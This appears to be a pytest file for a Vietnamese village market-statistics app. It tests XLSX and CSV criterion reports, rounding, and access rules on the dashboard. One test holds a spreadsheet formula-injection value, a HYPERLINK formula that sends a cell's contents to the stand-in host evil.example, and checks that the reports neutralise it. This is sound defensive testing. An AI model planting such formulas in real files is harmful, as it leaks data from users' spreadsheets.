"""The criterion report (XLSX, CSV) and the dashboard page."""
import csv
import io
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

from openpyxl import load_workbook

from merchants.models import OcopProduct
from tests import factories

LONG_AGO = datetime(2025, 1, 1, tzinfo=timezone.utc)


def _street_with_merchants(db):
    factories.stats_indicators()
    street = factories.street(name="Đường Chợ Lạc Đạo")
    with_qr = factories.merchant(street.village, street_id=street.id, created_at=LONG_AGO)
    factories.account(with_qr, created_at=LONG_AGO)
    factories.merchant(street.village, street_id=street.id, display_name="Tiệm May Cô Lan", created_at=LONG_AGO)
    db.session.commit()
    return street


def test_the_xlsx_report_is_the_document_a_village_sends_on_one_a4_page(client, db):
    street = _street_with_merchants(db)
    response = client.get("/api/v1/stats/report.xlsx", query_string={"scope": f"street:{street.id}",
                                                                     "date": "2026-06-30"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    text = " ".join(str(v) for row in cells for v in row if v is not None)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "Độc lập - Tự do - Hạnh phúc" in text
    assert "UBND XÃ LẠC ĐẠO" in text and "Lạc Đạo, ngày 30 tháng 06 năm 2026" in text
    assert "Hưng Yên" in text and "Xã Lạc Đạo (mã 11992)" in text and "01/06/2026 – 30/06/2026" in text
    head = next(i for i, row in enumerate(cells) if row[0] == "STT")
    assert cells[head] == ["STT", "Tên chỉ tiêu", "Đơn vị", "Tử số", "Mẫu số", "Kế hoạch", "Thực hiện",
                           "Đạt/Không đạt"]
    first = cells[head + 1]
    assert first[1].startswith("Tỷ lệ hộ kinh doanh chấp nhận") and "Tử số:" in first[1]
    assert first[3:8] == [1, 2, 0.7, 0.5, "Không đạt"]  # 1 of the 2 merchants accepts QR
    assert sheet.cell(head + 2, 6).number_format == "0.0%" and sheet.cell(head + 1, 1).font.bold
    signers = " ".join(str(v) for row in cells[head + 2:] for v in row if v)
    assert "NGƯỜI LẬP BIỂU" in signers and "TRƯỞNG THÔN" in signers and "(Ký, ghi rõ họ tên)" in signers
    setup = sheet.page_setup
    assert (setup.paperSize, setup.orientation, setup.fitToWidth, setup.fitToHeight) == (9, "portrait", 1, 1)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_margins.left <= 0.75
    assert sum(sheet.column_dimensions[c].width for c in "ABCDEFGH") <= 110
    area = sheet.print_area.split("!")[1]  # the whole document, signing space below the names included
    assert area.startswith("$A$1:$H$") and int(area.rsplit("$", 1)[1]) >= sheet.max_row


def test_the_csv_report_is_utf8_with_bom_and_vietnamese_percentages(client, db):
    street = _street_with_merchants(db)
    response = client.get("/api/v1/stats/report.csv", query_string={"scope": f"street:{street.id}",
                                                                    "date": "2026-06-30"})
    assert response.status_code == 200 and response.data.startswith(b"\xef\xbb\xbf")
    text = response.data.decode("utf-8-sig")
    assert "70,0 %" in text and "50,0 %" in text and "Không đạt" in text and "Đạt/Không đạt" in text


def test_the_dashboard_shows_targets_charts_and_the_to_do_list_to_the_village_head(client, auth, db):
    street = _street_with_merchants(db)
    owner = factories.merchant(street.village, street_id=street.id, is_ocop=True, created_at=LONG_AGO)
    factories.account(owner, created_at=LONG_AGO)
    today = date.today()
    db.session.add(OcopProduct(merchant_id=owner.id, name="Chè Lam Đường Phèn", group=1, stars=4, level="province",
                               certificate_number="OCOP-VD-2", issued_on=today - timedelta(days=1030),
                               expires_on=today + timedelta(days=40), channels=[]))
    db.session.commit()
    page = client.get(f"/stats/street/{street.id}", headers=auth("village_head", village=street.village))
    assert page.status_code == 200
    assert "Đường Chợ Lạc Đạo" in page.text
    acceptance = page.text.split("chấp nhận thanh toán bằng mã QR", 1)[1].split("</tr>", 1)[0]
    assert "70,0 %" in acceptance and "66,7 %" in acceptance and "Chưa đạt" in acceptance
    assert page.text.count("<svg") == 2 and "<script" not in page.text
    assert "Tiệm May Cô Lan" in page.text and "Chè Lam Đường Phèn" in page.text


def test_the_public_dashboard_hides_the_to_do_list(client, db):
    street = _street_with_merchants(db)
    page = client.get(f"/stats/street/{street.id}")
    assert page.status_code == 200 and "Tiệm May Cô Lan" not in page.text
    assert client.get("/stats/street/abc").status_code == 404
    assert client.get("/stats/street/999999").status_code == 404


HOSTILE = '=HYPERLINK("http://evil.example/?d="&B3,"Xem")'


def test_a_village_name_that_looks_like_a_formula_stays_text_in_both_reports(client, db):
    factories.stats_indicators()
    street = factories.street(factories.village(name=HOSTILE), name="+SUM(A1)")
    db.session.commit()
    query = {"scope": f"street:{street.id}", "date": "2026-06-30"}
    sheet = load_workbook(io.BytesIO(client.get("/api/v1/stats/report.xlsx", query_string=query).data)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert any(HOSTILE in value for value in values)
    rows = list(csv.reader(io.StringIO(client.get("/api/v1/stats/report.csv", query_string=query)
                                       .data.decode("utf-8-sig"))))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_report_rounds_half_up_once_from_the_raw_counts(client, db):
    from market.stats.report import rounded_actual as _share

    assert _share({"actual": 0.5225, "counts": (522523, 1_000_000)}) == Decimal("0.523")
    assert _share({"actual": 0.5224, "counts": (52245, 100_000)}) == Decimal("0.522")  # 52.245 % → 52,2 %
    assert _share({"actual": 0.1235, "counts": None}) == Decimal("0.124")
    street = _street_with_one_of_sixteen_accepting(db)
    query = {"scope": f"street:{street.id}", "date": "2026-06-30"}
    text = client.get("/api/v1/stats/report.csv", query_string=query).data.decode("utf-8-sig")
    assert "6,3 %" in text and "6,2 %" not in text  # 1/16 = 6.25 %: half-up, not half-even
    sheet = load_workbook(io.BytesIO(client.get("/api/v1/stats/report.xlsx", query_string=query).data)).active
    assert any(c.value == 0.063 for row in sheet.iter_rows() for c in row)


def _street_with_one_of_sixteen_accepting(db):
    factories.stats_indicators()
    street = factories.street()
    for n in range(16):
        merchant = factories.merchant(street.village, street_id=street.id, created_at=LONG_AGO)
        if n < 1:
            factories.account(merchant, created_at=LONG_AGO)
    db.session.commit()
    return street
def test_the_dashboard_marks_the_unfinished_month_keeps_labels_readable_and_tabulates_each_chart(client, auth, db):
    import re

    street = _street_with_merchants(db)
    page = client.get(f"/stats/street/{street.id}", query_string={"date": "2026-06-08"},
                      headers=auth("village_head", village=street.village)).text
    assert "06/26*" in page and "Tháng 06/2026 chưa hết" in page
    sizes = [int(size) for size in re.findall(r'font-size="(\d+)"', page)]
    assert sizes and min(sizes) >= 14  # ≥ 12 px once the 360-unit chart is drawn ≈ 310 px wide on a phone
    target = re.search(r'<text x="[\d.]+" y="([\d.]+)"[^>]*>Chỉ tiêu 70,0 %</text>', page)
    assert target and float(target.group(1)) > 180  # in the legend below the plot, not on the lines
    assert page.count("Bảng số liệu của biểu đồ") == 2 and "<th>Tháng</th>" in page
